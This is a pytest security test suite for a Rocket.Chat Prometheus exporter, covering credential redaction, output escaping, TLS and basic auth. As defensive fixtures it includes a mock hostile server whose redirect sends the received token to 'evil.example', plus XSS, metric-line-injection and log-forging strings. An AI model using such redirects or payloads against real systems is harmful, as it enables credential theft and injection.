"""Security: credentials never leak, untrusted names are escaped, TLS both ways, basic auth.

- The user id and token (distinctive values) are grepped for in every output of a real
  exporter process run at debug level through the fault paths, and of check-config.
- Agent names from Rocket.Chat are hostile input: the exposition must stay parseable by
  promtool and round-trip them exactly; HTML must be escaped.
- Outbound: certificates are verified by default, ca_file works, verify_tls: false is loud.
- Inbound: TLS (incl. client certificates) and basic auth from --web.config.file, in the
  format of Prometheus's exporter-toolkit, reloaded on change.
"""

from __future__ import annotations

import base64
import json
import logging
import re
import shutil
import signal
import socket
import ssl
import subprocess
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import bcrypt
import httpx
import pytest

from exporter.publisher import Publisher
from exporter.simulator import Simulator, SimulatorConfig, serve
from exporter.simulator.server import _Server
from exporter.web import WebServer
from exporter.webconfig import WebConfigError, WebGuard, load_web_config, parse_web_config
from tests.support.faultrig import TOKEN, USER_ID, RewritingProxy, Rig, parse_page
from tests.support.pki import Pki, make_pki
from tests.support.procs import free_port, http_get, require_binary, start_exporter, wait_for

pytestmark = (
    pytest.mark.slow
)  # real exporter processes, TLS handshakes: full suite only (see docs/testing.md)

PASSWORD = "s3cret-Pa55word"
HASH = bcrypt.hashpw(PASSWORD.encode(), bcrypt.gensalt(4)).decode()  # cost 4: fast tests


@pytest.fixture(scope="module")
def pki(tmp_path_factory) -> Pki:
    return make_pki(tmp_path_factory.mktemp("pki"))


def run_cli(*args: str, timeout: float = 60) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "exporter", *args], capture_output=True, text=True, timeout=timeout
    )


def basic(user: str, password: str) -> dict[str, str]:
    token = base64.b64encode(f"{user}:{password}".encode()).decode()
    return {"Authorization": f"Basic {token}"}


def client_context(pki: Pki, cert: bool = False) -> ssl.SSLContext:
    ctx = ssl.create_default_context(cafile=str(pki.ca))
    if cert:
        ctx.load_cert_chain(str(pki.client_cert), str(pki.client_key))
    return ctx


# ==== web config: validation ====================================================================


def web_config(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "web.yml"
    path.write_text(text)
    return path


@pytest.mark.parametrize(
    ("text", "needle"),
    [
        ("tls_server_config: {key_file: k}\n", "tls_server_config.cert_file: required"),
        ("tls_server_config: {cert_file: nope.crt, key_file: nope.key}\n", "file not found"),
        ("tls_server_config: []\n", "tls_server_config: must be a mapping"),
        ("basic_auth_user: {}\n", "basic_auth_user: unknown key"),
        ("basic_auth_users: [prometheus]\n", "basic_auth_users: must be a mapping"),
        ("basic_auth_users: {'a:b': " + json.dumps(HASH) + "}\n", "without ':'"),
        ("http_server_config: {http2: false}\n", "http_server_config: not supported"),
        ("42\n", "must be a mapping"),
    ],
    # Explicit ids: one case embeds a freshly salted bcrypt hash, which differs per process
    # (pytest-xdist workers must collect identical ids; --lf must find them again).
    ids=[
        "key-without-cert",
        "cert-missing",
        "tls-not-mapping",
        "typo",
        "users-not-mapping",
        "colon-in-user",
        "http2",
        "not-mapping",
    ],
)
def test_web_config_errors_name_the_key(tmp_path, text, needle):
    with pytest.raises(WebConfigError) as info:
        load_web_config(str(web_config(tmp_path, text)))
    assert needle in str(info.value)


def test_web_config_tls_errors(tmp_path, pki):
    tls = f"cert_file: {pki.server_cert}\n  key_file: {pki.server_key}\n"
    cases = {
        "  client_auth_type: RequireAndVerifyClientCert\n": "client_ca_file: required",
        f"  client_ca_file: {pki.ca}\n": "client_ca_file: set but client_auth_type is NoClientCert",
        "  client_auth_type: RequireAnyClientCert\n": "client_auth_type: RequireAnyClientCert",
        "  client_auth_type: Sometimes\n": "client_auth_type: must be one of",
        "  min_version: SSL3\n": "min_version: must be one of TLS10, TLS11, TLS12, TLS13",
        "  min_version: TLS13\n  max_version: TLS12\n": "max_version: TLS12 is below",
        "  cipher_suites: [TLS_AES_128_GCM_SHA256]\n": "cipher_suites: not supported",
        "  certfile: x\n": "tls_server_config.certfile: unknown key",
    }
    for extra, needle in cases.items():
        path = web_config(tmp_path, f"tls_server_config:\n  {tls}{extra}")
        with pytest.raises(WebConfigError) as info:
            load_web_config(str(path))
        assert needle in str(info.value), (extra, str(info.value))


def test_key_not_matching_the_certificate_is_found_at_load(tmp_path, pki):
    path = web_config(
        tmp_path,
        f"tls_server_config:\n  cert_file: {pki.server_cert}\n  key_file: {pki.rogue_key}\n",
    )
    with pytest.raises(WebConfigError) as info:
        load_web_config(str(path))
    assert "tls_server_config.cert_file/key_file" in str(info.value)


def test_plain_password_instead_of_a_hash_is_refused_without_echo(tmp_path):
    path = web_config(tmp_path, f"basic_auth_users:\n  prometheus: {PASSWORD}\n")
    with pytest.raises(WebConfigError) as info:
        load_web_config(str(path))
    assert "basic_auth_users.prometheus: not a bcrypt hash" in str(info.value)
    assert "htpasswd" in str(info.value)
    assert PASSWORD not in str(info.value)


def test_relative_paths_are_taken_from_the_web_config_directory(tmp_path, pki):
    d = tmp_path / "conf"
    d.mkdir()
    shutil.copy(pki.server_cert, d / "tls.crt")
    shutil.copy(pki.server_key, d / "tls.key")
    path = web_config(d, "tls_server_config:\n  cert_file: tls.crt\n  key_file: tls.key\n")
    config = load_web_config(str(path))
    assert config.tls is not None and config.tls.cert_file == str(d / "tls.crt")
    assert config.tls.min_version == "TLS12"


def test_empty_web_config_means_plain_http_without_auth():
    assert parse_web_config(None).tls is None and parse_web_config(None).users == ()


def test_cli_exits_2_on_a_bad_web_config_and_check_config_describes_a_good_one(tmp_path, pki):
    cfg = tmp_path / "config.yaml"
    cfg.write_text(
        f"servers:\n  - name: a\n    url: http://127.0.0.1:1\n    user_id: {USER_ID}\n"
        f"    auth_token: {TOKEN}\n"
    )
    bad = web_config(tmp_path, f"basic_auth_users:\n  prometheus: {PASSWORD}\n")
    for command in (["check-config"], []):
        result = run_cli(
            *command, "--config.file", str(cfg), "--web.config.file", str(bad),
            "--web.listen-address", f"127.0.0.1:{free_port()}",
        )  # fmt: skip
        assert result.returncode == 2, result.stderr
        assert (
            "basic_auth_users.prometheus" in result.stderr and "web configuration" in result.stderr
        )
        assert PASSWORD not in result.stderr + result.stdout
    good = tmp_path / "good.yml"
    good.write_text(
        f"tls_server_config:\n  cert_file: {pki.server_cert}\n  key_file: {pki.server_key}\n"
        f"  client_auth_type: RequireAndVerifyClientCert\n  client_ca_file: {pki.ca}\n"
        f"basic_auth_users:\n  prometheus: {HASH}\n"
    )
    result = run_cli("check-config", "--config.file", str(cfg), "--web.config.file", str(good))
    assert result.returncode == 0, result.stderr
    assert (
        "TLS on (min TLS12, client certificates required), basic auth for 1 user" in result.stdout
    )
    assert (
        TOKEN not in result.stdout + result.stderr and USER_ID not in result.stdout + result.stderr
    )


# ==== web config: serving =======================================================================


@pytest.fixture
def served(tmp_path, pki):
    """A WebServer with a web config; returns (url, publisher, web config path, guard)."""
    servers: list[WebServer] = []

    def start(text: str):
        path = web_config(tmp_path, text)
        guard = WebGuard(str(path))
        pub = Publisher(["main"], 300)
        web = WebServer(("127.0.0.1", 0), pub, guard=guard, clock=lambda: 1000.0)
        web.start()
        servers.append(web)
        return f"{web.scheme}://127.0.0.1:{web.port}", pub, path, guard

    yield start
    for web in servers:
        web.stop()


def test_basic_auth_guards_every_path(served):
    url, *_ = served(f"basic_auth_users:\n  prometheus: {HASH}\n")
    assert url.startswith("http://")
    for path in ("/metrics", "/", "/healthz", "/readyz", "/nope"):
        r = httpx.get(url + path)
        assert r.status_code == 401, path
        assert r.headers["WWW-Authenticate"].startswith("Basic")
        assert b"rocketchat" not in r.content  # nothing of the page leaks
    ok = httpx.get(url + "/metrics", headers=basic("prometheus", PASSWORD))
    assert ok.status_code == 200 and b"exporter_build_info" in ok.content
    assert httpx.get(url + "/healthz", headers=basic("prometheus", PASSWORD)).status_code == 200
    for headers in (
        basic("prometheus", "wrong"),
        basic("someone", PASSWORD),
        basic("prometheus", "x" * 100),  # longer than bcrypt's 72 bytes
        {"Authorization": "Bearer abc"},
        {"Authorization": "Basic !!!notbase64"},
        {"Authorization": "Basic " + base64.b64encode(b"no-colon").decode()},
    ):
        assert httpx.get(url + "/metrics", headers=headers).status_code == 401, headers


def test_tls_and_basic_auth(served, pki):
    url, *_ = served(
        f"tls_server_config:\n  cert_file: {pki.server_cert}\n  key_file: {pki.server_key}\n"
        f"basic_auth_users:\n  prometheus: {HASH}\n"
    )
    assert url.startswith("https://")
    with httpx.Client(verify=client_context(pki)) as c:
        assert c.get(url + "/metrics").status_code == 401
        assert c.get(url + "/metrics", headers=basic("prometheus", PASSWORD)).status_code == 200
    with pytest.raises(httpx.ConnectError):  # our CA only: the server's cert must verify
        httpx.get(url + "/metrics", verify=ssl.create_default_context(cafile=str(pki.rogue_ca)))
    with pytest.raises(httpx.HTTPError):  # plain HTTP to the TLS port gets nowhere
        httpx.get(url.replace("https", "http") + "/metrics", timeout=5)


def test_tls_min_version_is_enforced(served, pki):
    url, *_ = served(
        f"tls_server_config:\n  cert_file: {pki.server_cert}\n  key_file: {pki.server_key}\n"
        "  min_version: TLS13\n"
    )
    old = client_context(pki)
    old.maximum_version = ssl.TLSVersion.TLSv1_2
    with pytest.raises(httpx.ConnectError):
        httpx.get(url + "/healthz", verify=old)
    assert httpx.get(url + "/healthz", verify=client_context(pki)).status_code == 200


def test_client_certificates_required(served, pki):
    url, *_ = served(
        f"tls_server_config:\n  cert_file: {pki.server_cert}\n  key_file: {pki.server_key}\n"
        f"  client_auth_type: RequireAndVerifyClientCert\n  client_ca_file: {pki.ca}\n"
    )
    with pytest.raises(httpx.HTTPError):
        httpx.get(url + "/metrics", verify=client_context(pki))
    r = httpx.get(url + "/metrics", verify=client_context(pki, cert=True))
    assert r.status_code == 200


def test_a_silent_client_does_not_block_others(served, pki):
    url, *_ = served(
        f"tls_server_config:\n  cert_file: {pki.server_cert}\n  key_file: {pki.server_key}\n"
    )
    port = int(url.rsplit(":", 1)[1])
    with socket.create_connection(("127.0.0.1", port)):  # connects, never says hello
        started = time.monotonic()
        assert httpx.get(url + "/healthz", verify=client_context(pki)).status_code == 200
        assert time.monotonic() - started < 2


def _served_serial(url: str, pki: Pki) -> bytes:
    """The certificate the server presents to a new connection (DER)."""
    port = int(url.rsplit(":", 1)[1])
    with (
        socket.create_connection(("127.0.0.1", port), timeout=5) as raw,
        client_context(pki).wrap_socket(raw, server_hostname="127.0.0.1") as tls,
    ):
        return tls.getpeercert(binary_form=True)


def test_rotated_certificate_and_users_apply_without_restart(served, pki, tmp_path, caplog):
    caplog.set_level(logging.INFO, logger="exporter")
    cert, key = tmp_path / "tls.crt", tmp_path / "tls.key"
    shutil.copy(pki.server_cert, cert)
    shutil.copy(pki.server_key, key)
    url, _pub, path, guard = served(
        f"tls_server_config:\n  cert_file: {cert}\n  key_file: {key}\n"
        f"basic_auth_users:\n  prometheus: {HASH}\n"
    )
    first = _served_serial(url, pki)
    # cert-manager style rotation: both files replaced.
    shutil.copy(pki.server2_cert, cert)
    shutil.copy(pki.server2_key, key)
    wait_for(lambda: _served_serial(url, pki) != first, 5, "the new certificate served")
    # A new password for the user.
    new_hash = bcrypt.hashpw(b"another-one", bcrypt.gensalt(4)).decode()
    text = path.read_text().replace(HASH, new_hash)
    path.write_text(text)
    with httpx.Client(verify=client_context(pki)) as c:
        wait_for(
            lambda: (
                c.get(url + "/healthz", headers=basic("prometheus", "another-one")).status_code
                == 200
            ),
            5,
            "new password accepted",
        )
        assert c.get(url + "/healthz", headers=basic("prometheus", PASSWORD)).status_code == 401
        # A bad edit is refused and logged; the previous settings stay in force.
        path.write_text(text + "  intruder: plain-password\n")

        def refused() -> bool:
            c.get(url + "/healthz")  # requests are what look at the file
            return any("invalid" in r.getMessage() for r in caplog.records)

        wait_for(refused, 5, "the bad edit logged")
        assert (
            c.get(url + "/healthz", headers=basic("prometheus", "another-one")).status_code == 200
        )
    assert "plain-password" not in caplog.text


def test_real_exporter_serves_tls_with_basic_auth(tmp_path, pki):
    sim = Simulator(SimulatorConfig(agents=3, rate_limit=0, user_id=USER_ID, auth_token=TOKEN))
    server = serve(sim)
    cfg = tmp_path / "config.yaml"
    cfg.write_text(
        f"poll_interval: 1s\nservers:\n  - name: rc\n    url: {server.url}\n"
        f"    user_id: {USER_ID}\n    auth_token: {TOKEN}\n"
    )
    web = web_config(
        tmp_path,
        f"tls_server_config:\n  cert_file: {pki.server_cert}\n  key_file: {pki.server_key}\n"
        f"basic_auth_users:\n  prometheus: {HASH}\n",
    )
    proc, url = start_exporter(cfg, tmp_path, None, "--web.config.file", str(web))
    url = url.replace("http://", "https://")
    try:
        with httpx.Client(verify=client_context(pki), headers=basic("prometheus", PASSWORD)) as c:
            wait_for(lambda: c.get(url + "/readyz").status_code == 200, 30, "ready over TLS")
            page = c.get(url + "/metrics").text
            assert 'rocketchat_omnichannel_up{server="rc"} 1' in page
        assert httpx.get(url + "/metrics", verify=client_context(pki)).status_code == 401
        assert "scheme=https" in proc.log() and "basic auth for 1 user" in proc.log()
    finally:
        proc.stop()
        server.stop()


# ==== outbound TLS: Rocket.Chat's certificate ===================================================


@pytest.fixture
def https_simulator(pki):
    """The simulator behind TLS with a certificate from our test CA."""
    sim = Simulator(SimulatorConfig(agents=3, rate_limit=0, user_id=USER_ID, auth_token=TOKEN))
    srv = _Server(("127.0.0.1", 0), sim)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(str(pki.server_cert), str(pki.server_key))
    srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
    thread = threading.Thread(target=srv.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    yield f"https://127.0.0.1:{srv.server_address[1]}"
    srv.shutdown()
    srv.close_all()
    srv.server_close()


def _once(tmp_path: Path, url: str, extra: str = "") -> subprocess.CompletedProcess:
    cfg = tmp_path / "config.yaml"
    cfg.write_text(
        f"servers:\n  - name: rc\n    url: {url}\n    user_id: {USER_ID}\n"
        f"    auth_token: {TOKEN}\n    timeout: 5s\n{extra}"
    )
    return run_cli("once", "--config.file", str(cfg))


def test_rocketchat_certificate_is_verified_by_default(tmp_path, https_simulator):
    result = _once(tmp_path, https_simulator)
    assert result.returncode == 1
    assert 'rocketchat_omnichannel_up{server="rc"} 0' in result.stdout
    assert 'poll_errors_total{server="rc",reason="network"} 1' in result.stdout
    assert "CERTIFICATE_VERIFY_FAILED" in result.stderr and "ca_file" in result.stderr


def test_ca_file_makes_a_private_ca_work(tmp_path, https_simulator, pki):
    result = _once(tmp_path, https_simulator, f"    ca_file: {pki.ca}\n")
    assert result.returncode == 0, result.stderr
    assert 'rocketchat_omnichannel_up{server="rc"} 1' in result.stdout
    assert "verification is OFF" not in result.stderr


def test_verify_tls_false_works_but_warns_loudly(tmp_path, https_simulator):
    result = _once(tmp_path, https_simulator, "    verify_tls: false\n")
    assert result.returncode == 0, result.stderr
    assert 'rocketchat_omnichannel_up{server="rc"} 1' in result.stdout
    warning = [line for line in result.stderr.splitlines() if "verification is OFF" in line]
    assert len(warning) == 1 and "level=warn" in warning[0] and "server=rc" in warning[0]


def test_verify_tls_false_warning_at_serve_start(tmp_path, https_simulator):
    cfg = tmp_path / "config.yaml"
    cfg.write_text(
        f"poll_interval: 1s\nservers:\n  - name: rc\n    url: {https_simulator}\n"
        f"    user_id: {USER_ID}\n    auth_token: {TOKEN}\n    verify_tls: false\n"
    )
    proc, url = start_exporter(cfg, tmp_path)
    try:
        wait_for(lambda: http_get(url + "/readyz")[0] == 200, 30, "ready")
        assert "verification is OFF" in proc.log()
    finally:
        proc.stop()


# ==== credentials never leak ====================================================================


class EchoingProxy:
    """A hostile 'Rocket.Chat' that puts the credentials it receives into every answer:
    error texts, HTML titles, a redirect's Location, a 429 body."""

    def __init__(self):
        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self) -> None:  # noqa: N802
                leak = f"{self.headers.get('X-User-Id')}/{self.headers.get('X-Auth-Token')}"
                if "history" in self.path:
                    status, body = 403, json.dumps({"success": False, "error": f"no {leak}"})
                    headers = {"Content-Type": "application/json"}
                elif "users/agent" in self.path:
                    status, body = 502, f"<html><title>bad gateway {leak}</title></html>"
                    headers = {"Content-Type": "text/html"}
                elif "agents-status" in self.path:
                    status, body = 429, json.dumps({"error": f"wait 1 seconds {leak}"})
                    headers = {"Retry-After": "0"}
                else:
                    status, body = 302, ""
                    headers = {"Location": f"https://evil.example/?u={leak}"}
                data = body.encode()
                self.send_response(status)
                for k, v in headers.items():
                    self.send_header(k, v)
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def log_message(self, *args: object) -> None:
                return

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.httpd.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


def _counter(url: str, name: str, **labels: str) -> float:
    status, body = http_get(url + "/metrics")
    assert status == 200
    key = (name, frozenset(labels.items()))
    return parse_page(body).get(key, 0.0)


def _assert_clean(*texts: str | bytes) -> None:
    for text in texts:
        raw = text if isinstance(text, bytes) else text.encode()
        for secret in (USER_ID, TOKEN):
            assert secret.encode() not in raw, f"{secret} leaked: {raw[:200]!r}"
            # Nor in a form a log formatter could produce (JSON/logfmt escaping, base64).
            assert base64.b64encode(secret.encode()) not in raw


@pytest.mark.parametrize("log_format", ["logfmt", "json"])
def test_credentials_never_appear_in_any_output(tmp_path, log_format):
    """A real exporter at debug level through every fault path, with a hostile server that
    echoes the credentials back; then grep logs, metrics, landing page, check-config."""
    sim = Simulator(
        SimulatorConfig(agents=4, rate_limit=0, user_id=USER_ID, auth_token=TOKEN, seed=2)
    )
    server = serve(sim)
    echo = EchoingProxy()
    (tmp_path / "uid").write_text(USER_ID + "\n")
    (tmp_path / "token").write_text(TOKEN + "\n")
    cfg = tmp_path / "config.yaml"
    cfg.write_text(
        "poll_interval: 0.2s\nmax_staleness: 1s\nservers:\n"
        f"  - name: rc\n    url: {server.url}\n    user_id_file: uid\n    auth_token_file: token\n"
        f"  - name: echo\n    url: {echo.url}\n    user_id_file: uid\n    auth_token_file: token\n"
    )
    proc, url = start_exporter(
        cfg, tmp_path, None, "--log.level", "debug", "--log.format", log_format
    )
    pages: list[bytes] = []
    try:
        wait_for(lambda: _counter(url, "up", server="rc") == 1, 30, "rc up")

        def through(start, stop, name: str, **labels: str) -> None:
            before = _counter(url, name, **labels)
            start()
            wait_for(lambda: _counter(url, name, **labels) > before, 20, f"{name} {labels}")
            pages.append(http_get(url + "/")[1])
            pages.append(http_get(url + "/metrics")[1])
            stop()

        for kind, code in (
            ("error", "500"),
            ("html", "502"),
            ("truncate", "200"),
            ("drop", "error"),
        ):
            through(
                lambda k=kind: sim.faults.inject(k, times=1, route="agents"),
                lambda: None,
                "api_requests_total",
                server="rc", endpoint="agents", code=code,
            )  # fmt: skip
        ok = lambda: None  # noqa: E731
        through(sim.revoke_token, lambda: sim.set_credentials(USER_ID, TOKEN), "poll_errors_total", server="rc", reason="auth")  # fmt: skip
        through(lambda: sim.forbid("history"), lambda: sim.forbid("history", False), "poll_errors_total", server="rc", reason="permission")  # fmt: skip
        through(lambda: setattr(sim, "licence", False), lambda: setattr(sim, "licence", True), "poll_errors_total", server="rc", reason="licence")  # fmt: skip
        through(ok, ok, "poll_errors_total", server="echo", reason="permission")
        wait_for(lambda: _counter(url, "up", server="rc") == 1, 20, "rc recovered")
        proc.proc.send_signal(signal.SIGHUP)  # logged, not fatal
        pages.append(http_get(url + "/")[1])
        pages.append(http_get(url + "/metrics")[1])
        assert proc.alive()
        check = run_cli("check-config", "--config.file", str(cfg), "--log.level", "debug")
        once = run_cli("once", "--config.file", str(cfg), "--log.level", "debug")
    finally:
        proc.stop()
        server.stop()
        echo.close()
    log_text = proc.log()
    assert "level=debug" in log_text or '"level": "debug"' in log_text  # debug was on
    assert "<redacted>" in log_text  # the echoing server's texts were scrubbed, not dropped
    assert "<redacted>" in once.stderr
    _assert_clean(log_text, *pages, check.stdout, check.stderr, once.stdout, once.stderr)


def test_credentials_not_in_config_errors(tmp_path):
    cfg = tmp_path / "config.yaml"
    # The token pasted into the wrong field too, and a YAML error on the token's line.
    cfg.write_text(
        f"servers:\n  - name: a\n    url: http://127.0.0.1:1\n    user_id: {USER_ID}\n"
        f"    auth_token: {TOKEN}\n    timeout: {TOKEN}\n    timezone: {USER_ID}\n"
    )
    result = run_cli("check-config", "--config.file", str(cfg))
    assert result.returncode == 2 and "servers[0].timeout" in result.stderr
    _assert_clean(result.stdout, result.stderr)
    cfg.write_text(f"servers:\n  - name: a\n    auth_token: '{TOKEN}\n")
    result = run_cli("check-config", "--config.file", str(cfg))
    assert result.returncode == 2
    _assert_clean(result.stdout, result.stderr)


def test_credentials_not_in_in_process_errors_and_pages(caplog):
    """The same through the in-process path: exception texts, health, pages, every record's
    fields (not only the formatted message)."""
    caplog.set_level(logging.DEBUG)
    r = Rig()
    echo = EchoingProxy()
    try:
        texts: list[str] = []
        for start in (r.sim.revoke_token, lambda: r.sim.faults.set_rate("html", 1.0)):
            start()
            assert not r.poll(60)
            texts += [r.health().last_error, r.page().decode()]
        r.use_url(echo.url)
        assert not r.poll(60)
        texts += [r.health().last_error, r.page().decode()]
        assert "<redacted>" in r.health().last_error
        records = [f"{rec.getMessage()} {rec.__dict__}" for rec in caplog.records]
        _assert_clean(*texts, *records)
    finally:
        echo.close()
        r.close()


# ==== untrusted agent names =====================================================================

HOSTILE = [
    'quote"in"name',
    "back\\slash\\",
    "new\nline",
    "<script>alert(1)</script>",
    "ünïcødé-名前-🙂",
    "trailing\\",
    '} 1\nrocketchat_omnichannel_up{server="rc"} 0',  # an attempt at line injection
    "tab\there",
    "\u2028line-separator",
]


def test_hostile_agent_names_survive_the_exposition(tmp_path):
    promtool = require_binary("promtool")
    # (?s): the default include pattern `.*` does not match a newline, so such an agent would
    # be filtered out before it reached the exposition.
    r = Rig(agents=0, agent_filter={"include": "(?s).*"})
    web = WebServer(("127.0.0.1", 0), r.publisher, clock=r.exporter_now)
    web.start()
    try:
        for i, name in enumerate(HOSTILE):
            r.sim.add_session(name, r.clock.now() - 3000 + i, r.clock.now() - 600)
        r.sim.add_session(HOSTILE[0], r.clock.now() - 300)  # open: live status too
        assert r.poll(60), r.health().last_error
        status, page = http_get(f"http://127.0.0.1:{web.port}/metrics")
        assert status == 200
        check = subprocess.run(
            [promtool, "check", "metrics"], input=page, capture_output=True, timeout=30
        )
        assert check.returncode == 0, check.stdout + check.stderr
        samples = parse_page(page)
        names = {dict(k[1]).get("agent") for k in samples if k[0] == "agent_available_seconds"}
        assert names == set(HOSTILE)  # every name exactly, nothing split or merged
        ups = [v for k, v in samples.items() if k[0] == "up"]
        assert ups == [1]  # the injection attempt did not add a sample
        assert r.value("agent_available", agent=HOSTILE[0]) == 1
    finally:
        web.stop()
        r.close()


def test_hostile_text_from_rocketchat_is_escaped_on_the_landing_page():
    r = Rig()
    proxy = RewritingProxy(r.server)
    web = WebServer(("127.0.0.1", 0), r.publisher, clock=r.exporter_now)
    web.start()
    try:
        r.use_url(proxy.url)
        proxy.rewrite = lambda path, s, h, b: (
            502,
            {"Content-Type": "text/html"},
            b"<html><title><script>alert('x')</script> & <img src=x onerror=y></title></html>",
        )
        assert not r.poll(60)
        status, body = http_get(f"http://127.0.0.1:{web.port}/")
        assert status == 200
        assert b"<script>" not in body and b"<img" not in body
        assert b"&lt;script&gt;" in body and b"&lt;img" in body
    finally:
        web.stop()
        proxy.close()
        r.close()


def test_log_lines_cannot_be_forged_through_values():
    """A value with a newline (an agent name, a Rocket.Chat error text) stays on one line."""
    from exporter.logs import JsonFormatter, LogfmtFormatter

    record = logging.makeLogRecord(
        {"name": "exporter", "levelno": 30, "levelname": "WARNING", "msg": "x"}
    )
    record.err = 'boom\nlevel=error msg="forged"'
    for formatter in (LogfmtFormatter(), JsonFormatter()):
        line = formatter.format(record)
        assert "\n" not in line
    assert re.search(r'err="boom\\nlevel=error msg=\\"forged\\""', LogfmtFormatter().format(record))


# Visitor data, message text and room names from livechat/rooms (service_level): whole room
# documents come back (Rocket.Chat ignores `fields`); none of it may reach an output.
ROOM_PRIVATE = (
    "Jane Visitor",
    "secret-room-name",
    "private-message-text",
    "visitor-token-",
    "example.invalid",
    "+15550100",
    "guest-r",
)


def test_visitor_data_message_text_and_room_names_never_appear(tmp_path):
    """A real exporter at debug level with service_level on, rooms whose documents carry
    visitor data, through the rooms route's fault paths; then grep every output."""
    import time

    sim = Simulator(
        SimulatorConfig(agents=2, rate_limit=0, user_id=USER_ID, auth_token=TOKEN, seed=2)
    )
    server = serve(sim)
    (tmp_path / "uid").write_text(USER_ID + "\n")
    (tmp_path / "token").write_text(TOKEN + "\n")
    cfg = tmp_path / "config.yaml"
    cfg.write_text(
        "poll_interval: 0.2s\nservice_level:\n  per_department: true\nservers:\n"
        f"  - name: rc\n    url: {server.url}\n    user_id_file: uid\n    auth_token_file: token\n"
    )
    proc, url = start_exporter(cfg, tmp_path, None, "--log.level", "debug")
    pages: list[bytes] = []
    try:
        wait_for(lambda: _counter(url, "service_level_known", server="rc") == 1, 30, "rooms read")
        now = time.time()
        for i in range(4):
            sim.rooms.add(now - 100 - i, department="d1", wait=10.0 * i, duration=99.0)
        wait_for(lambda: _counter(url, "chats_closed_total", server="rc", department="d1") == 4,
                 30, "rooms counted")  # fmt: skip
        for kind, code in (("error", "500"), ("html", "502"), ("truncate", "200")):
            before = _counter(url, "api_requests_total", server="rc", endpoint="rooms", code=code)
            sim.faults.inject(kind, times=1, route="rooms")
            wait_for(
                lambda c=code, b=before: (
                    _counter(url, "api_requests_total", server="rc", endpoint="rooms", code=c) > b
                ),
                20,
                f"rooms {kind}",
            )
            pages += [http_get(url + "/")[1], http_get(url + "/metrics")[1]]
        sim.forbid("rooms")
        wait_for(lambda: _counter(url, "service_level_known", server="rc") == 0, 20, "refused")
        pages += [http_get(url + "/")[1], http_get(url + "/metrics")[1]]
        once = run_cli("once", "--config.file", str(cfg), "--log.level", "debug")
    finally:
        proc.stop()
        server.stop()
    for text in (proc.log(), once.stdout, once.stderr, *(p.decode() for p in pages)):
        leaked = [p for p in ROOM_PRIVATE if p in text]
        assert not leaked, f"{leaked} leaked: {text[:300]!r}"
    _assert_clean(proc.log(), *pages)
